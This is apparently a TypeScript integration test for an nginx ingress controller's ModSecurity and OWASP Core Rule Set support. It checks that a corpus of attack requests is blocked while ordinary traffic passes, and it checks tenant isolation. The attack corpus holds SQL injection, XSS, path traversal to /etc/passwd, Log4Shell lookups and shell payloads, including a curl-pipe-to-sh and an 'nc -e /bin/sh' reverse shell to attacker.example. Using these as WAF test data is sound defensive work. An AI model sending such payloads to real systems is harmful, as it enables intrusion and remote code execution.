/**
 * ModSecurity with the OWASP Core Rule Set through real nginx, Debian's module and CRS (issue 32), in both modes
 * (rendered locations, and profiles the Lua router jumps to): a corpus of classic attacks is answered 403 and a
 * corpus of ordinary traffic passes, both counted; DetectionOnly passes; an Ingress without the annotation on the same
 * host is untouched; a tenant's snippet cannot switch the WAF off for another tenant nor include a file.
 */
import { existsSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ingress, ingressClass, serviceWithEndpoints } from '../support/manifests.js';
import { startBackend, type Backend } from '../support/net.js';
import { ann, SCENE_MODES, startScene, type Scene } from './annotations-harness.js';
import { waitFor } from '../support/wait.js';

const HOST = 'waf.test';
const MODULE = '/usr/lib/nginx/modules/ngx_http_modsecurity_module.so';
const CRS = '/usr/share/modsecurity-crs/rules';

interface Sample {
  readonly what: string;
  readonly method?: string;
  readonly path: string;
  readonly headers?: Record<string, string>;
  readonly body?: string;
}

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const JSON_TYPE = { 'content-type': 'application/json', accept: 'application/json' };
const BROWSER = {
  'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'accept-language': 'en-GB,en;q=0.5',
  'accept-encoding': 'gzip, deflate, br',
  cookie: 'session=3f2a9c1e7b; theme=dark',
};
const BOUNDARY = '----ia-boundary-7MA4YWxkTrZu0gW';
const upload = (name: string, type: string, content: string) =>
  [
    `--${BOUNDARY}`,
    `Content-Disposition: form-data; name="title"`,
    '',
    'Quarterly report',
    `--${BOUNDARY}`,
    `Content-Disposition: form-data; name="file"; filename="${name}"`,
    `Content-Type: ${type}`,
    '',
    content,
    `--${BOUNDARY}--`,
    '',
  ].join('\r\n');

/** ATTACKS are classic attacks the CRS at paranoia level 1 blocks. */
export const ATTACKS: readonly Sample[] = [
  { what: 'SQL injection in a query', path: `/?id=${encodeURIComponent("1' OR '1'='1' --")}` },
  {
    what: 'SQL injection, UNION',
    path: `/items?q=${encodeURIComponent('1 UNION SELECT username, password FROM users')}`,
  },
  {
    what: 'SQL injection in a form body',
    method: 'POST',
    path: '/login',
    headers: FORM,
    body: `username=${encodeURIComponent("admin' OR 1=1--")}&password=x`,
  },
  {
    what: 'SQL injection in a JSON body',
    method: 'POST',
    path: '/api/search',
    headers: JSON_TYPE,
    body: JSON.stringify({ q: "x' UNION SELECT password FROM users--" }),
  },
  { what: 'XSS, script tag', path: `/search?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}` },
  { what: 'XSS, event handler', path: `/search?q=${encodeURIComponent('<img src=x onerror=alert(1)>')}` },
  {
    what: 'XSS in a form body',
    method: 'POST',
    path: '/comment',
    headers: FORM,
    body: `text=${encodeURIComponent('<svg/onload=alert(1)>')}`,
  },
  { what: 'path traversal in a parameter', path: `/download?file=${encodeURIComponent('../../../../etc/passwd')}` },
  {
    what: 'path traversal, Windows style',
    path: `/download?file=${encodeURIComponent('..\\..\\..\\windows\\win.ini')}`,
  },
  { what: 'Log4Shell in a header', path: '/', headers: { 'x-api-version': '${jndi:ldap://attacker.example/a}' } },
  { what: 'Log4Shell in the User-Agent', path: '/', headers: { 'user-agent': '${jndi:ldap://attacker.example/x}' } },
  { what: 'shell command in a parameter', path: `/ping?host=${encodeURIComponent('127.0.0.1; cat /etc/passwd')}` },
  {
    what: 'shell command substitution',
    path: `/ping?host=${encodeURIComponent('$(curl http://attacker.example/x.sh|sh)')}`,
  },
  {
    what: 'shell command in a form body',
    method: 'POST',
    path: '/ping',
    headers: FORM,
    body: `host=${encodeURIComponent('8.8.8.8 | nc -e /bin/sh attacker.example 4444')}`,
  },
];

/** ORDINARY is what browsers, JSON APIs and uploads send every day. */
export const ORDINARY: readonly Sample[] = [
  { what: 'a page', path: '/', headers: BROWSER },
  { what: 'a script', path: '/static/app.3f2a9c.js', headers: { ...BROWSER, accept: '*/*' } },
  { what: 'an image', path: '/images/logo.png', headers: { ...BROWSER, accept: 'image/avif,image/webp,*/*' } },
  { what: 'a search', path: '/search?q=hello+world&page=2&sort=relevance', headers: BROWSER },
  { what: "a search for O'Brien", path: `/search?q=${encodeURIComponent("O'Brien")}`, headers: BROWSER },
  {
    what: 'a login form',
    method: 'POST',
    path: '/login',
    headers: { ...BROWSER, ...FORM },
    body: 'username=alice&password=correct+horse+battery+staple&remember=on',
  },
  {
    what: 'a contact form',
    method: 'POST',
    path: '/contact',
    headers: { ...BROWSER, ...FORM },
    body: `name=Alice&email=alice%40example.com&message=${encodeURIComponent('Hello, could you call me back tomorrow? Thanks!')}`,
  },
  { what: 'a JSON list', path: '/api/v1/items?limit=20&offset=40', headers: JSON_TYPE },
  {
    what: 'a JSON create',
    method: 'POST',
    path: '/api/v1/items',
    headers: JSON_TYPE,
    body: JSON.stringify({ name: 'widget', price: 9.99, tags: ['blue', 'small'], stock: { warehouse: 'b', count: 3 } }),
  },
  {
    what: 'a JSON update',
    method: 'PUT',
    path: '/api/v1/items/42',
    headers: JSON_TYPE,
    body: JSON.stringify({ name: 'widget', price: 10.5 }),
  },
  { what: 'a JSON delete', method: 'DELETE', path: '/api/v1/items/42', headers: JSON_TYPE },
  {
    what: 'a text file upload',
    method: 'POST',
    path: '/upload',
    headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
    body: upload('notes.txt', 'text/plain', 'Meeting notes\nAction items: ship the release, update the docs.'),
  },
  {
    what: 'a CSV upload',
    method: 'POST',
    path: '/upload',
    headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
    body: upload('sales.csv', 'text/csv', 'region,amount\nnorth,1200\nsouth,950\n'),
  },
  { what: 'a health check', path: '/healthz', headers: { 'user-agent': 'kube-probe/1.31' } },
];

// The CRS at paranoia level 1 allows GET HEAD POST OPTIONS: a JSON API needs PUT, PATCH and DELETE too.
const METHODS =
  'SecAction "id:1000,phase:1,nolog,pass,t:none,setvar:\'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE\'"';
const SNIPPETS = { 'allow-snippet-annotations': 'true', 'annotations-risk-level': 'Critical' };

const installed = existsSync(MODULE) && existsSync(CRS);

describe.skipIf(!installed).each(SCENE_MODES)('ModSecurity with the CRS (%s)', (mode) => {
  let backend: Backend;
  let scene: Scene;
  const logLines: Record<string, unknown>[] = [];
  const send = (sample: Sample, prefix = '') =>
    scene.http(HOST, `${prefix}${sample.path}`, {
      method: sample.method ?? 'GET',
      headers: sample.headers ?? {},
      ...(sample.body === undefined ? {} : { body: sample.body }),
    });

  beforeAll(async () => {
    backend = await startBackend('app');
    const crs = { 'enable-modsecurity': 'true', 'enable-owasp-core-rules': 'true' };
    scene = await startScene(
      [
        ingressClass(),
        ...serviceWithEndpoints('app', [{ port: backend.port }]),
        ingress(
          'blocking',
          { [HOST]: [{ path: '/', service: 'app' }] },
          {
            annotations: ann({ ...crs, 'modsecurity-snippet': `SecRuleEngine On\n${METHODS}` }),
          },
        ),
        ingress('detecting', { [HOST]: [{ path: '/detect', service: 'app' }] }, { annotations: ann(crs) }),
        ingress('untouched', { [HOST]: [{ path: '/plain', service: 'app' }] }),
        // another tenant on the host switches its own WAF off: only its own path
        ingress(
          'tenant-off',
          { [HOST]: [{ path: '/tenant', service: 'app' }] },
          {
            annotations: ann({ ...crs, 'modsecurity-snippet': 'SecRuleEngine Off\nSecRuleRemoveById 1-9999999' }),
          },
        ),
        // ModSecurity without the CRS, which other locations load: only its own rule applies
        ingress(
          'own-rules',
          { [HOST]: [{ path: '/own', service: 'app' }] },
          {
            annotations: ann({
              'enable-modsecurity': 'true',
              'modsecurity-snippet':
                'SecRuleEngine On\nSecRule REQUEST_HEADERS:User-Agent "block-ua" "id:107,phase:1,deny,status:403"',
            }),
          },
        ),
        // and one tries to read a file: refused, its path fails closed
        ingress(
          'tenant-include',
          { [HOST]: [{ path: '/include', service: 'app' }] },
          {
            annotations: ann({ ...crs, 'modsecurity-snippet': 'SecRuleEngine On\nInclude /etc/passwd' }),
          },
        ),
      ],
      { mode, configMap: SNIPPETS, logLines },
    );
  }, 90_000);

  afterAll(async () => {
    await scene?.stop();
    await backend?.close();
  });

  it('blocks every attack of the corpus with 403 and passes all ordinary traffic', async () => {
    const missed: string[] = [];
    const refused: string[] = [];
    for (const sample of ATTACKS) {
      const { status } = await send(sample);
      if (status !== 403) missed.push(`${sample.what}: ${status}`);
    }
    for (const sample of ORDINARY) {
      const { status } = await send(sample);
      if (status !== 200) refused.push(`${sample.what}: ${status}`);
    }
    // both counted: every attack of the corpus blocked, every ordinary request passed
    expect({
      blocked: ATTACKS.length - missed.length,
      passed: ORDINARY.length - refused.length,
      missed,
      refused,
    }).toEqual({
      blocked: ATTACKS.length,
      passed: ORDINARY.length,
      missed: [],
      refused: [],
    });
  });

  it('DetectionOnly passes the attacks (they are logged, not blocked)', async () => {
    for (const sample of ATTACKS) expect((await send(sample, '/detect')).status, sample.what).toBe(200);
  });

  it('an Ingress without the annotation on the same host is untouched', async () => {
    for (const sample of ATTACKS) expect((await send(sample, '/plain')).status, sample.what).toBe(200);
  });

  it.runIf(mode === 'lua')(
    'logs one JSON record a blocked request, with the Ingress, the rule ids and the transaction id',
    async () => {
      const marker = `ia-audit-${process.pid}-${Date.now()}`;
      const reply = await scene.http(HOST, `/?id=${encodeURIComponent("1' OR '1'='1' --")}&m=${marker}`);
      expect(reply.status).toBe(403);
      const mine = () =>
        logLines.filter((l) => JSON.stringify((l.waf as { uri?: string } | undefined)?.uri ?? '').includes(marker));
      await waitFor('the audit record', () => (mine().length > 0 ? true : null), 10_000);
      const [record, ...more] = mine();
      expect(more).toEqual([]);
      expect(record).toMatchObject({
        msg: 'ModSecurity blocked a request',
        waf: { ingress: 'default/blocking', blocked: true, status: 403, engine: 'Enabled', method: 'GET' },
      });
      const waf = record!.waf as { rules: string[]; transactionId: string };
      expect(waf.rules).toEqual(expect.arrayContaining(['942100', '949110']));
      // $request_id: 32 hex digits, as nginx makes it
      expect(waf.transactionId).toMatch(/^[0-9a-f]{32}$/);
    },
  );

  it.runIf(mode === 'lua')(
    'logs what DetectionOnly passes, and nothing for the Ingress without the WAF on the same host',
    async () => {
      const sqli = `?id=${encodeURIComponent("1' OR '1'='1' --")}`;
      const marker = `ia-detect-${process.pid}-${Date.now()}`;
      const named = (m: string) =>
        logLines.filter((l) => JSON.stringify((l.waf as { uri?: string } | undefined)?.uri ?? '').includes(m));
      expect((await scene.http(HOST, `/detect/${sqli}&m=${marker}-d`)).status).toBe(200);
      expect((await scene.http(HOST, `/plain/${sqli}&m=${marker}-p`)).status).toBe(200);
      await waitFor('the DetectionOnly record', () => (named(`${marker}-d`).length > 0 ? true : null), 10_000);
      expect(named(`${marker}-d`)).toMatchObject([
        {
          msg: 'ModSecurity matched a request',
          waf: { ingress: 'default/detecting', blocked: false, status: 200, engine: 'DetectionOnly' },
        },
      ]);
      expect(named(`${marker}-p`)).toEqual([]);
    },
  );

  it('a location with ModSecurity but not the CRS gets its own rules only, though the CRS is loaded for others', async () => {
    expect((await send(ATTACKS[0]!, '/own')).status).toBe(200);
    expect((await send(ATTACKS.find((a) => a.what === 'Log4Shell in a header')!, '/own')).status).toBe(200);
    expect(
      (await send({ what: 'its own rule', path: '/', headers: { 'user-agent': 'block-ua' } }, '/own')).status,
    ).toBe(403);
  });

  it("a tenant's snippet switches off its own WAF only, and one with Include fails closed", async () => {
    const sqli = ATTACKS[0]!;
    expect((await send(sqli, '/tenant')).status).toBe(200);
    expect((await send(sqli)).status).toBe(403);
    expect((await send(ORDINARY[0]!, '/include')).status).toBe(503);
    expect(scene.problems).toMatch(
      /tenant-include.*modsecurity-snippet.*"Include" is not on the modsecurity-snippet allow-list/,
    );
  });
});
